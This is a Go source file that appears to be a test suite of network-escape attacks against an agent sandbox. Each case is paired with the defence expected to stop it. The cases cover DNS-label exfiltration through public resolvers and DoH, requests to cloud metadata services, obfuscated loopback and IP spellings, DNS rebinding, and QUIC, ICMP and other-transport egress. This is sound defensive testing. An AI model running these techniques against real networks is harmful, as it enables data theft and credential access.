package attacker

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"strings"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

const (
	// netPatience bounds the wait for an answer or a refusal.
	netPatience = 20 * time.Second
	// silence bounds the wait for an answer that must not come when no refusal can
	// come either: multicast and broadcast get no errors (RFC 1122 section 3.2.2).
	silence = time.Second

	resolver = "198.18.0.3:53" // the gateway's
)

// slow turns a time-out into cannot: a packet that was dropped instead of refused makes an
// agent's tools hang, which the bottle promises not to do.
func slow(err error) error {
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		return &cannotError{why: fmt.Sprintf("neither answered nor refused within %v", netPatience), hung: true}
	}
	return err
}

func mute(addr string) bool {
	host, _, _ := net.SplitHostPort(addr)
	host, _, _ = strings.Cut(host, "%")
	return net.ParseIP(host).IsMulticast() || host == "255.255.255.255"
}

// dial succeeds if a connection is made and, with say, answered.
func dial(addr, say string) error {
	d := netPatience
	if mute(addr) {
		d = silence
	}
	c, err := net.DialTimeout("tcp", addr, d)
	if err != nil {
		if mute(addr) {
			return err
		}
		return slow(err)
	}
	defer c.Close()
	if say == "" {
		return nil
	}
	c.SetDeadline(time.Now().Add(netPatience))
	if _, err := io.WriteString(c, say); err != nil {
		return err
	}
	var one [1]byte
	_, err = c.Read(one[:])
	return slow(err)
}

func get(host string) string {
	return "GET / HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
}

func getOpen(e *Env) error { return dial(e.Open, get(e.Open)) }

// reach returns an attack that connects to places. The host's observers count arrivals.
func reach(id, how, defence, source string, addrs func(*Env) []string) Attack {
	return Attack{ID: id, How: how, Defence: defence, Source: source, Judge: ByWord, Control: getOpen,
		Try: func(e *Env) error {
			return e.atOnce(each(addrs(e), func(a string) error { return dial(a, get("x")) })...)
		}}
}

func withPort(port string, hosts ...string) (out []string) {
	for _, h := range hosts {
		out = append(out, net.JoinHostPort(h, port))
	}
	return out
}

const literalsRefused = "a literal address needs a route that names it"

func hostPorts() []Attack {
	return family("host-ports", "S2",
		reach("own-addresses", "Connect to a server on this machine by each of the machine's addresses.", literalsRefused, "nono#713", func(e *Env) []string { return withPort(e.Port, e.HostAddrs...) }),
		reach("loopback", "Connect to it by every spelling of the loopback, in both protocols.", "the loopback inside is the bottle's own", "", func(e *Env) []string {
			return withPort(e.Port, "127.0.0.1", "127.1.2.3", "127.255.255.254", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", "::ffff:7f00:1", "::127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::1", "fe80::1%eth0")
		}),
		reach("names", "Connect to it by names that mean the host to other systems.", "a name that no route allows does not exist", "", func(e *Env) []string {
			return withPort(e.Port, "localhost", "localhost.", "LOCALHOST", "ip6-localhost", "foo.localhost", "host.docker.internal", "gateway.docker.internal", "host.containers.internal", "kubernetes.default.svc", "127.0.0.1.nip.io", "localtest.me", "host.carboy.internal")
		}),
		reach("gateways", "Connect to the addresses at which hosts stand in front of containers and virtual machines, and to the gateway itself.", literalsRefused, "", func(e *Env) []string {
			return append(withPort(e.Port, "198.18.0.0", "198.18.0.1", "198.18.0.2", "198.18.0.3", "fd63:6172:626f:7900::1", "172.17.0.1", "10.0.2.2", "192.168.65.2", "192.168.127.1", "10.88.0.1", "100.64.0.1"),
				withPort("80", "198.18.0.3", "fd63:6172:626f:7900::1")...)
		}),
	)
}

// query asks a server for a name and succeeds if it gets an address.
func query(network, server, name string, qtype uint16) error {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), qtype)
	c := &dns.Client{Net: network, Timeout: netPatience}
	r, _, err := c.Exchange(m, server)
	if err != nil {
		return slow(err)
	}
	if r.Rcode != dns.RcodeSuccess || len(r.Answer) == 0 {
		return fmt.Errorf("%s with %d answers", dns.RcodeToString[r.Rcode], len(r.Answer))
	}
	return nil
}

func hostOf(addr string) string {
	h, _, _ := net.SplitHostPort(addr)
	return h
}

func portOf(addr string) string {
	_, p, _ := net.SplitHostPort(addr)
	return p
}

func askAllowed(network string) func(*Env) error {
	return func(e *Env) error { return query(network, resolver, hostOf(e.Open), dns.TypeA) }
}

const synthetic = "names are answered by the gateway; only what a route allows is looked up, when it is dialled"

// asking returns an attack that puts data into DNS questions. The host's name server counts
// the questions that reach it.
func asking(id, how, source, network string, tries func(e *Env, data string) []try) Attack {
	return Attack{ID: id, How: how, Defence: synthetic, Source: source, Judge: ByHost, Control: askAllowed(network),
		Try: func(e *Env) error { return e.atOnce(tries(e, "exfil7f3a"+strings.ReplaceAll(id, "-", ""))...) }}
}

func names() []Attack {
	return family("names", "W1",
		asking("labels", "Put data into the labels of names, for the system's resolver and for libc's.", "Docker sbx CVE-2026-12039, OpenShell#1169, microsandbox#675", "udp", func(e *Env, data string) []try {
			return []try{
				{"resolver", func() error {
					_, err := net.DefaultResolver.LookupHost(context.Background(), data+"."+e.Exfil)
					return err
				}},
				{"libc", func() error {
					err := exec.Command("/usr/bin/getent", "hosts", data+".libc."+e.Exfil).Run()
					var exit *exec.ExitError
					if err != nil && !errors.As(err, &exit) {
						return cannot("%v", err)
					}
					return err
				}},
				{"many labels", func() error { return query("udp", resolver, strings.Repeat(data+".", 6)+e.Exfil, dns.TypeA) }},
				{"capitals", func() error { return query("udp", resolver, strings.ToUpper(data)+"."+e.Exfil, dns.TypeA) }},
				{"search list", func() error { return query("udp", resolver, data, dns.TypeA) }},
			}
		}),
		asking("below-allowed", "Put it below and beside a name that is allowed.", "microsandbox#675", "udp", func(e *Env, data string) []try {
			return each([]string{data + "." + hostOf(e.Open), data + hostOf(e.Open), hostOf(e.Open) + "." + data, data + "-." + hostOf(e.Open)}, func(n string) error { return query("udp", resolver, n, dns.TypeA) })
		}),
		asking("record-types", "Ask for TXT, NULL, MX, SRV, CNAME, HTTPS, ANY, AXFR, PTR and types without a name.", "microsandbox#675", "udp", func(e *Env, data string) []try {
			return each([]uint16{dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeSRV, dns.TypeCNAME, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeANY, dns.TypeAXFR, dns.TypePTR, dns.TypeNS, dns.TypeSOA, 65400}, func(t uint16) error { return query("udp", resolver, data+"."+e.Exfil, t) })
		}),
		asking("other-servers", "Ask public and private name servers, over UDP.", "nono#713", "udp", func(e *Env, data string) []try {
			return each([]string{"8.8.8.8:53", "1.1.1.1:53", "9.9.9.9:53", "127.0.0.11:53", "198.18.99.99:53", "169.254.169.253:53", "[2001:4860:4860::8888]:53", "[fd63:6172:626f:7900::1]:53"}, func(s string) error { return query("udp", s, data+"."+e.Exfil, dns.TypeA) })
		}),
		asking("over-tcp", "Ask over TCP.", "generic", "tcp", func(e *Env, data string) []try {
			return each([]string{resolver, "8.8.8.8:53", "1.1.1.1:53", "[2001:4860:4860::8888]:53", "[fd63:6172:626f:7900::1]:53"}, func(s string) error { return query("tcp", s, data+"."+e.Exfil, dns.TypeA) })
		}),
		Attack{ID: "encrypted", How: "Ask over TLS and HTTPS (DoT, DoH), by address and by name.", Defence: literalsRefused, Source: "cplt#241, nono#756", Judge: ByWord, Control: askAllowed("tcp"),
			Try: func(e *Env) error {
				c := &http.Client{Timeout: netPatience}
				tries := each([]string{"1.1.1.1:853", "[2606:4700:4700::1111]:853", "dns.google:853"}, func(a string) error { return dial(a, "x") })
				tries = append(tries, each([]string{"https://1.1.1.1/dns-query?name=a.", "https://dns.google/resolve?name=a.", "https://[2606:4700:4700::1111]/dns-query?name=a."}, func(u string) error {
					r, err := c.Get(u + e.Exfil)
					if err == nil {
						r.Body.Close()
					}
					return slow(err)
				})...)
				return e.atOnce(tries...)
			}},
		Attack{ID: "multicast", How: "Ask the neighbours: multicast DNS, LLMNR, NetBIOS.", Defence: "nothing but TCP leaves", Judge: ByWord, Control: ownUDP,
			Try: func(e *Env) error {
				return e.atOnce(each([]string{"224.0.0.251:5353", "224.0.0.252:5355", "[ff02::fb]:5353", "255.255.255.255:137"}, func(a string) error { return echo(silence, a, []byte("exfil")) })...)
			}},
		asking("reverse", "Put it into reverse look-ups.", "generic", "udp", func(e *Env, data string) []try {
			return each([]string{"8.8.8.8.in-addr.arpa", data + ".in-addr.arpa", data + ".ip6.arpa"}, func(n string) error { return query("udp", resolver, n, dns.TypePTR) })
		}),
	)
}

func literals() []Attack {
	return family("literals", "W1",
		reach("metadata", "Connect to the metadata services of clouds.", literalsRefused, "", func(e *Env) []string {
			return withPort("80", "169.254.169.254", "169.254.170.2", "169.254.169.253", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "192.0.0.192", "fd20:ce::254", "metadata.google.internal")
		}),
		reach("private", "Connect to private networks, shared address space and link-local addresses.", literalsRefused, "", func(e *Env) []string {
			return append(withPort("80", "10.0.0.1", "192.168.1.1", "172.16.0.1", "100.64.0.1", "169.254.0.1", "fd00::1", "fe80::a9fe:a9fe%eth0"), withPort(e.Port, "10.0.0.1", "192.168.0.1")...)
		}),
		reach("public", "Connect to public addresses, IPv4 and IPv6, on the ports of the web, ssh and encrypted names.", literalsRefused, "nono#713, shuru#28", func(e *Env) []string {
			var out []string
			for _, p := range []string{"22", "80", "443", "853", e.Port} {
				out = append(out, withPort(p, "1.1.1.1", "2606:4700:4700::1111")...)
			}
			return out
		}),
		reach("translated", "Connect to IPv4 addresses inside IPv6 ones: mapped, NAT64, 6to4, Teredo, compatible.", literalsRefused, "", func(e *Env) []string {
			return withPort("80", "::ffff:1.1.1.1", "64:ff9b::101:101", "64:ff9b:1::1.1.1.1", "2002:101:101::1", "2001::1", "::1.1.1.1", "::ffff:0:1.1.1.1", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1")
		}),
		reach("special", "Connect to multicast, broadcast, reserved and benchmark addresses.", literalsRefused, "", func(e *Env) []string {
			return withPort("80", "224.0.0.1", "255.255.255.255", "240.0.0.1", "198.19.255.255", "198.18.77.77", "192.0.2.1", "203.0.113.1", "ff02::1%eth0", "2001:db8::1", "100::1")
		}),
		Attack{ID: "spellings", How: "Write addresses as libc reads them: decimal, octal, hexadecimal, short, with full-width digits.", Defence: "what libc makes of them is a literal, and those are refused", Judge: ByWord,
			Control: func(e *Env) error { return dialByLibc(hostOf(e.Open), portOf(e.Open), get(e.Open)) },
			Try: func(e *Env) error {
				return e.atOnce(each([]string{"2130706433", "0x7f000001", "0x7f.1", "017700000001", "127.1", "127.0.1", "0177.0.0.1", "0", "::ffff:7f00:1", "::1", "①②⑦.⓪.⓪.①", "127。0。0。1", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "1.1", "0x01010101"},
					func(s string) error { return dialByLibc(s, e.Port, get("x")) })...)
			}},
	)
}

// dialByLibc connects to the address that the system's C library finds for a host.
func dialByLibc(host, port, say string) error {
	out, err := exec.Command("/usr/bin/getent", "ahosts", host).Output()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		return cannot("%v", err)
	}
	if err != nil {
		return fmt.Errorf("not an address: %w", err)
	}
	f := strings.Fields(string(out))
	if len(f) == 0 {
		return errors.New("no address")
	}
	return dial(net.JoinHostPort(f[0], port), say)
}

const judgedAtDial = "where a name leads is looked up and judged at every dial, and that address is dialled"

func privateNames() []Attack {
	return family("private-names", "W1",
		Attack{ID: "private", How: "Use an allowed public name that resolves to the machine's own loopback.", Defence: judgedAtDial, Judge: ByHost, Control: getOpen,
			Try: func(e *Env) error { return ok(e.Private, get(e.Private)) }},
		Attack{ID: "metadata", How: "Use a name that may be private and resolves to a cloud's metadata service.", Defence: "metadata is refused even then", Judge: ByWord, Control: getOpen,
			Try: func(e *Env) error { return ok(e.Meta, get(e.Meta)) }},
		Attack{ID: "rebinding", How: "Use an allowed name whose second answer leads to the metadata service.", Defence: judgedAtDial, Judge: ByHost,
			Control: func(e *Env) error { return ok(e.Rebind, get(e.Rebind)) },
			Try: func(e *Env) error {
				return e.any(each([]int{1, 2, 3}, func(int) error { return ok(e.Rebind, get(e.Rebind)) })...)
			}},
		Attack{ID: "by-its-address", How: "Connect to the loopback's address itself, with the allowed name in the request.", Defence: literalsRefused, Source: "microsandbox#694", Judge: ByWord, Control: getOpen,
			Try: func(e *Env) error {
				return e.atOnce(each(withPort(e.Port, append([]string{"127.0.0.1", "::1"}, e.HostAddrs...)...), func(a string) error { return ok(a, get(e.Open)) })...)
			}},
	)
}

// echo succeeds if a datagram is answered.
func echo(d time.Duration, addr string, b []byte) error {
	c, err := net.DialTimeout("udp", addr, netPatience)
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.Write(b); err != nil {
		return err
	}
	c.SetReadDeadline(time.Now().Add(d))
	_, err = c.Read(make([]byte, 1500))
	return err
}

func told(addr string, b []byte) error { return slow(echo(netPatience, addr, b)) }

func ownUDP(*Env) error {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer pc.Close()
	go func() { // ends when pc is closed
		b := make([]byte, 10)
		n, from, err := pc.ReadFrom(b)
		if err == nil {
			pc.WriteTo(b[:n], from)
		}
	}()
	return echo(netPatience, pc.LocalAddr().String(), []byte("x"))
}

const onlyTCP = "nothing but TCP leaves; the refusal is told at once"

func datagrams() []Attack {
	return family("datagrams", "W2",
		Attack{ID: "quic", How: "Speak QUIC to a host that is allowed, on its port and on 443.", Defence: onlyTCP, Source: "cplt#241, nono#756", Judge: ByHost, Control: getOpen,
			Try: func(e *Env) error {
				hello := append([]byte{0xc0, 0, 0, 0, 1, 8}, bytes.Repeat([]byte{7}, 1200)...)
				return e.atOnce(each([]string{e.Open, net.JoinHostPort(hostOf(e.Open), "443")}, func(a string) error { return told(a, hello) })...)
			}},
		Attack{ID: "host", How: "Send datagrams to each of this machine's addresses, at a port where somebody listens.", Defence: onlyTCP, Judge: ByHost, Control: ownUDP,
			Try: func(e *Env) error {
				addrs := withPort(e.Port, append([]string{"198.18.0.3", "198.18.0.2"}, e.HostAddrs...)...)
				return e.atOnce(each(addrs, func(a string) error { return told(a, []byte("exfil")) })...)
			}},
		Attack{ID: "public", How: "Send datagrams to time servers, tunnels and web servers of the world, in both protocols.", Defence: onlyTCP, Judge: ByWord, Control: ownUDP,
			Try: func(e *Env) error {
				return e.atOnce(each([]string{"8.8.8.8:123", "8.8.8.8:443", "1.1.1.1:51820", "1.1.1.1:4500", "[2606:4700::1111]:443", "169.254.169.254:80", "10.0.0.1:161"}, func(a string) error { return told(a, []byte("exfil")) })...)
			}},
		Attack{ID: "multicast", How: "Send to groups and to everybody: DHCP, SSDP, all hosts.", Defence: onlyTCP, Judge: ByWord, Control: ownUDP,
			Try: func(e *Env) error {
				return e.atOnce(each([]string{"255.255.255.255:67", "224.0.0.1:9999", "[ff02::1%eth0]:9999", "239.255.255.250:1900"}, func(a string) error { return echo(silence, a, []byte("exfil")) })...)
			}},
		Attack{ID: "ping", How: "Carry data in echo requests, by the socket that needs no right, in both protocols.", Defence: onlyTCP, Judge: ByWord, Control: ownUDP,
			Try: func(e *Env) error {
				return e.atOnce(try{"4", func() error { return ping(net.IPv4(8, 8, 8, 8)) }}, try{"6", func() error { return ping(net.ParseIP("2001:4860:4860::8888")) }}, try{"allowed", func() error {
					a, err := net.ResolveIPAddr("ip4", hostOf(e.Open))
					if err != nil {
						return cannot("%v", err)
					}
					return ping(a.IP)
				}})
			}},
		Attack{ID: "other-transports", How: "Open SCTP, DCCP, UDP-Lite and multipath TCP, which pass by filters that know two protocols.", Defence: "the inner network has TCP, UDP and ICMP only", Judge: ByWord,
			Control: func(*Env) error { return makeSocket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_TCP)() },
			Try: func(e *Env) error {
				var tries []try
				for _, p := range []int{unix.IPPROTO_SCTP, unix.IPPROTO_DCCP, unix.IPPROTO_UDPLITE, unix.IPPROTO_MPTCP, unix.IPPROTO_GRE, unix.IPPROTO_ESP} {
					for _, kind := range []int{unix.SOCK_STREAM, unix.SOCK_DGRAM, unix.SOCK_SEQPACKET} {
						tries = append(tries, try{fmt.Sprintf("%d/%d", p, kind), makeSocket(unix.AF_INET, kind, p)})
					}
				}
				return e.any(tries...)
			}},
	)
}

// ping sends an echo request by a datagram socket and waits for the answer.
func ping(ip net.IP) error {
	family, proto, kind := unix.AF_INET, unix.IPPROTO_ICMP, byte(8)
	var to unix.Sockaddr
	if ip4 := ip.To4(); ip4 != nil {
		a := &unix.SockaddrInet4{}
		copy(a.Addr[:], ip4)
		to = a
	} else {
		family, proto, kind = unix.AF_INET6, unix.IPPROTO_ICMPV6, 128
		a := &unix.SockaddrInet6{}
		copy(a.Addr[:], ip)
		to = a
	}
	fd, err := unix.Socket(family, unix.SOCK_DGRAM, proto)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	b := []byte{kind, 0, 0, 0, 0, 0, 0, 1, 'x', 0}
	sum := uint32(0)
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	sum = sum>>16 + sum&0xffff
	binary.BigEndian.PutUint16(b[2:], ^uint16(sum))
	if err := unix.Sendto(fd, b, 0, to); err != nil {
		return err
	}
	_, _, err = unix.Recvfrom(fd, make([]byte, 200), 0)
	return err
}

// askNames asks for the name in the first argument, then for as many other names as the
// second says, and last for a name with the text of the third.
func askNames(args []string) error {
	var n int
	fmt.Sscan(args[1], &n)
	query("udp", resolver, args[0], dns.TypeA)
	for i := range n {
		if err := query("udp", resolver, fmt.Sprintf("n%d.%s", i, args[0]), dns.TypeA); err == nil {
			return errors.New("a name was answered that no route allows")
		}
	}
	c, err := net.Dial("udp", resolver)
	if err != nil {
		return cannot("%v", err)
	}
	defer c.Close()
	// By hand, since libraries refuse such labels.
	q := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, byte(len(args[2]))}
	q = append(append(q, args[2]...), 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1)
	c.SetDeadline(time.Now().Add(2 * time.Second))
	c.Write(q)
	c.Read(make([]byte, 600))
	fmt.Println("asked", n)
	return nil
}

// reachAll asks servers for a page and prints the outcome of each request.
func reachAll(addrs []string) error {
	for _, a := range addrs {
		if err := ok(a, get(a)); err != nil {
			fmt.Printf("%s\t%v\n", a, err)
		} else {
			fmt.Printf("%s\tdone\n", a)
		}
	}
	return nil
}
